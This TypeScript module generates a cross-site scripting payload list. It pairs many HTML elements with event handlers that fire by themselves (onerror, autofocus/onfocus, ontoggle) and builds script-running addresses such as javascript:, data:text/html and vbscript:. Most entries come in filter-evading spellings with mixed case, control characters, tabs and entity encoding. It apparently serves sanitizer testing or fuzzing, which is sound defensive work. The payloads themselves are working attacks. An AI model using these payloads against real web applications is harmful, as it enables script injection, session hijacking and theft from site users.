import { asReferences, effects, mixed } from './effects.ts';

/** An element, an event it has, and what makes the event come by itself where anything does. */
const listeners: readonly (readonly [element: string, event: string, rest: string])[] = [
  ['img', 'onerror', 'src=x:'],
  ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='],
  ['svg', 'onload', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['input', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['a', 'onfocus', 'tabindex=0 autofocus'],
  ['div', 'onfocusin', 'contenteditable autofocus'],
  ['details', 'ontoggle', 'open'],
  ['dialog', 'onclose', 'open'],
  ['video', 'onerror', 'src=x:'],
  ['audio', 'onloadstart', 'src=data:,'],
  ['source', 'onerror', 'src=x:'],
  ['object', 'onerror', 'data=x:'],
  ['embed', 'onload', 'src=data:,'],
  ['iframe', 'onload', ''],
  ['link', 'onerror', 'rel=stylesheet href=x:'],
  ['style', 'onload', ''],
  ['script', 'onerror', 'src=x:'],
  ['marquee', 'onstart', ''],
  ['p', 'onanimationstart', 'style=animation:x'],
  ['p', 'ontransitionend', 'style=transition:color'],
  ['p', 'onpointerenter', 'style=position:fixed;inset:0'],
  ['p', 'onmouseover', 'style=position:fixed;inset:0'],
  ['p', 'onbeforematch', 'hidden=until-found'],
  ['button', 'onclick', 'autofocus'],
  ['form', 'onsubmit', ''],
  ['animate', 'onbegin', 'attributeName=x dur=1s'],
];

/** How the name, the equals sign and the word of an attribute may be joined. */
const joints: readonly ((name: string, word: string) => string)[] = [
  (name, word) => ` ${name}="${word}"`,
  (name, word) => ` ${name}='${word}'`,
  (name, word) => `/${name}="${word}"`,
  (name, word) => `\n${name}\t=\t"${word}"`,
  (name, word) => ` ${mixed(name)}="${asReferences(word, 'decimal')}"`,
  (name, word) => ` ${name}="${asReferences(word, 'hex')}"`,
  (name, word) => ` ${name}="${asReferences(word, 'padded')}"`,
];

const effect = (at: number): string => effects[at % effects.length] ?? '';
const joint = (at: number) => joints[at % joints.length] ?? String;

/** Every element with its event, three ways of writing each. */
export const eventHandlers: readonly string[] = listeners.flatMap(([element, event, rest], at) =>
  [0, 1, 2].map((turn) => {
    const tag = turn === 1 ? mixed(element) : element;
    return `<${tag} ${rest}${joint(at * 3 + turn)(event, effect(at + turn * 5))}>`;
  }),
);

/** What makes an address run, as browsers read it: any case, with blanks and controls before and within. */
const runners: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `${mixed('javascript')}:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java&#10;script&colon;${code}`,
  (code) => asReferences(`javascript:${code}`, 'hex'),
  (code) => `javascript://%0a${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString('base64')}`,
  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  (code) => `vbscript:${code}`,
];

/** Where an address is followed. */
const followers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href="${address}" target=_blank ping=x>x</a>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<form action="${address}"><input type=submit autofocus></form>`,
  (address) => `<button form=f formaction="${address}">x</button><form id=f></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}"><a href=x>x</a>`,
  (address) => `<area href="${address}" shape=default>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
];

/** Every way of running by an address, in every place where one is followed. */
export const runningAddresses: readonly string[] = runners.flatMap((runner, at) =>
  followers.map((follower, place) => follower(runner(effect(at * 7 + place)))),
);
